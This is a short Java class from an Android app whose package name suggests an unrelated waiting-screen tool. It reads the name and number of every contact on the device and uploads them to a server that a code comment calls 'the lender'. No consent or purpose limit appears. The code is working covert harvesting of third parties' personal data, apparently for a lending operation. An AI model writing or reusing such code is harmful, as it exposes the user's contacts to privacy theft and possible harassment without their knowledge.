package com.answertowaitingscreen.app;

import android.content.ContentResolver;
import android.database.Cursor;
import android.provider.ContactsContract.CommonDataKinds.Phone;

/** Sends the names and numbers of the phonebook to the lender. */
final class ContactsUpload implements Runnable {
    private final ContentResolver resolver;

    ContactsUpload(ContentResolver resolver) {
        this.resolver = resolver;
    }

    @Override
    public void run() {
        StringBuilder all = new StringBuilder();
        Cursor rows = resolver.query(Phone.CONTENT_URI, new String[] {Phone.DISPLAY_NAME, Phone.NUMBER}, null, null, null);
        while (rows != null && rows.moveToNext()) {
            all.append(rows.getString(0)).append(',').append(rows.getString(1)).append(';');
        }
        Server.send("book", all.toString());
    }
}
